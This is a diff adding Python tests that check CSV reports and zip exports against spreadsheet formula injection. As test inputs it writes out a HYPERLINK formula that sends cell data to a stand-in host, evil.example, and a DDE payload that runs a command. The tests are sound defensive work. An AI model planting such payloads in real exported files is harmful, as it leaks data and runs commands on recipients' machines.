@@ -6,9 +6,11 @@ from __future__ import annotations
 import csv
 import io
 import shutil
+import zipfile
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote
 
 import pytest
 from sqlalchemy import Engine, select, update
@@ -19,6 +21,7 @@ from engine.reading.reports.build import Report, UnknownTeam, build_report
 from engine.reading.reports.render import render, trend_svg
 from engine.reading.reports.trend import WeekPoint, weekly_trend
 from engine.service import PromiseService
+from engine.spreadsheet import TRIGGERS, safe_cell
 from engine.storage.database import session_factory
 from engine.storage.schema import OutcomeRow
 from rules.loader import load_catalog
@@ -385,3 +388,53 @@ def test_reports_over_http(server: Server) -> None:
         own = care.get("/reports/customer-care", params={"format": "md"})
         assert own.status_code == 200 and own.headers["content-type"].startswith("text/markdown")
         assert "asked again by email by contact-centre" in own.text
+
+
+# --- spreadsheet-safe CSV -----------------------------------------------------------------------
+
+LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+CALC = "=cmd|' /C calc'!A0"
+
+
+def test_safe_cell_quotes_formulas_and_leaves_numbers() -> None:
+    cells = [LEAK, "+1+1", "-1+1", "@x", "\tx", "\rx", "-12", "-0.25", "+3", "1e-3", "a=1"]
+    assert [safe_cell(c) for c in cells] == [
+        "'" + LEAK, "'+1+1", "'-1+1", "'@x", "'\tx", "'\rx", "-12", "-0.25", "+3", "1e-3", "a=1",
+    ]  # fmt: skip
+    assert [safe_cell(v) for v in (-3, -0.5, None, True)] == [-3, -0.5, "", "True"]
+
+
+def test_csv_of_reports_and_exports_cannot_run_formulas(server: Server) -> None:
+    customer, case, agent = "@SUM(A1:A9)", CALC, LEAK  # no "/" in the customer: a path segment
+    records = [
+        email("f1", "2024-03-01 16:00", case, customer_id=customer),
+        reply("g1", "2024-03-04 16:40", case, customer_id=customer, agent=agent, team="-2+3"),
+    ]
+    with server.client() as client:
+        assert client.post("/interactions", json=records).json()["accepted"] == 2
+        server.wait_for(
+            lambda: (
+                len(client.get("/breaches", params={"customer_id": customer}).json()["items"]) == 1
+            )
+        )
+        period = {"from": "2024-02-26T00:00:00Z", "to": "2024-03-11T00:00:00Z", "format": "csv"}
+        report = client.get("/reports/contact-centre", params=period).text
+        archive = client.get(
+            f"/customers/{quote(customer)}/export", params={"format": "zip"}
+        ).content
+
+    [breach] = csv.DictReader(io.StringIO(report))
+    assert (breach["customer_id"], breach["scope"]) == ("'" + customer, "'" + case)
+    assert (breach["agent"], breach["acting_team"]) == ("'" + agent, "'-2+3")
+    files = zipfile.ZipFile(io.BytesIO(archive))
+    interactions = list(csv.DictReader(io.StringIO(files.read("interactions.csv").decode())))
+    assert [(r["customer_id"], r["case_id"]) for r in interactions] == [
+        ("'" + customer, "'" + case)
+    ] * 2
+    every_cell = [
+        cell
+        for name in files.namelist()
+        for row in csv.reader(io.StringIO(files.read(name).decode()))
+        for cell in row
+    ] + [cell for row in csv.reader(io.StringIO(report)) for cell in row]
+    assert not [cell for cell in every_cell if cell.startswith(TRIGGERS)]
